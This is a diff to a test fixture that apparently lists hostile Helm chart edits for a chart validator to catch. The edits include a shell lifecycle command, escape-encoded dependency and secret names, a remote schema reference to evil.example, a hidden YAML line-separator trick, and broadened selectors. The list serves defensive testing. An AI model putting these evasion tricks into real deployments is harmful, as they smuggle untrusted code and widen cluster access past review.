@@ -207,7 +207,7 @@ export const HOSTILE_EDITS: readonly HostileChart[] = [
     "image",
   ),
   edit("an open port of the node", DEPLOYMENT, "containerPort: 8080", "containerPort: 8080, hostPort: 80", "ports"),
-  edit("a command on leaving", DEPLOYMENT, "sleep: {seconds:", "exec: {command: [sh]}, sleepX: {seconds:", "lifecycle"),
+  edit("a command on leaving", DEPLOYMENT, "sleep: {seconds:", "sleep: {command: [sh], seconds:", "lifecycle"),
   edit(
     "a probe of another host",
     DEPLOYMENT,
@@ -331,6 +331,19 @@ export const HOSTILE_EDITS: readonly HostileChart[] = [
   ),
   calls("which revision it is", "{{- if gt .Release.Revision 1 }}\n---\nkind: Evil\n{{- end }}"),
   calls("what the cluster can", '{{- if .Capabilities.APIVersions.Has "v2" }}\n---\nkind: Evil\n{{- end }}'),
+  calls("what the cluster can, by an index", '{{- if index . "Capabilities" }}\n---\nkind: Evil\n{{- end }}'),
+  calls(
+    "whether it is an upgrade, by an index",
+    '{{- if index $ "Release" "IsUpgrade" }}\n---\nkind: Evil\n{{- end }}',
+  ),
+  calls("everything as text", "{{- if contains `IsUpgrade: true` (toYaml .) }}\n---\nkind: Evil\n{{- end }}"),
+  calls(
+    "everything in turn",
+    "{{- range $key, $value := . }}{{ if $value.IsUpgrade }}\n---\nkind: Evil\n{{ end }}{{- end }}",
+  ),
+  calls("everything after nothing", "{{- with .Values.none }}{{ else with . }}{{ toYaml . }}{{- end }}"),
+  calls("everything by a variable", "{{- $all := $ }}{{ toYaml $all }}"),
+  calls("everything in a list", '{{- include "labels" (list .) }}'),
   calls("what the time is", '{{- if eq (now | toString) "" }}{{- end }}'),
   calls("a template in a value", "{{ tpl .Values.track . }}"),
   calls("a file", '{{ .Files.Get "values.yaml" }}'),
@@ -341,6 +354,73 @@ export const HOSTILE_EDITS: readonly HostileChart[] = [
     title: "a chart in the chart",
     changes: [{ file: "charts/evil/Chart.yaml", append: "name: evil\n" }],
     says: "file charts/evil",
+  },
+  {
+    title: "a dependency in disguise",
+    changes: [
+      { file: "Chart.yaml", append: '"dep\\u0065ndencies": [{name: a, repository: "https://evil.example"}]\n' },
+    ],
+    says: "Chart.yaml.dependencies",
+  },
+  {
+    title: "a schema from elsewhere",
+    changes: [
+      {
+        file: "values.schema.json",
+        replace: ['"properties": {', '"allOf": [{"$ref": "https://evil.example/schema.json"}], "properties": {'],
+      },
+    ],
+    says: "values.schema.json",
+  },
+  {
+    title: "a line end of YAML 1.1 in a comment",
+    changes: [
+      { file: "templates/service.yaml", replace: ["spec:\n", "spec:\n  # \u2028  externalName: evil.example\n"] },
+    ],
+    says: "every reader",
+  },
+  {
+    title: "an alias",
+    changes: [
+      { file: "templates/service.yaml", replace: ["type: ClusterIP", "type: &a ClusterIP\n  externalName: *a"] },
+    ],
+    says: "every reader",
+  },
+  {
+    title: "a secret's name in disguise",
+    changes: [
+      {
+        file: "templates/secrets.yaml",
+        replace: [
+          "    objects: |\n",
+          '    objects: |\n      - "object\\u004eame": arn:aws:secretsmanager:us-east-1:111122223333:secret:other\n        objectType: secretsmanager\n',
+        ],
+      },
+    ],
+    says: "objects",
+  },
+  {
+    title: "other pods behind a service",
+    changes: [
+      {
+        file: "templates/service.yaml",
+        replace: [
+          'selector: {{- include "selectorLabels" . | nindent 4 }}',
+          "selector: {app.kubernetes.io/name: sparki-web}",
+        ],
+      },
+    ],
+    says: "selector",
+  },
+  {
+    title: "a network policy for every pod",
+    changes: [
+      {
+        file: "templates/network-policy.yaml",
+        replace: ['    matchLabels: {{- include "selectorLabels" . | nindent 6 }}', "    matchLabels: {}"],
+      },
+    ],
+    says: "podSelector",
   },
   {
     title: "a dependency",
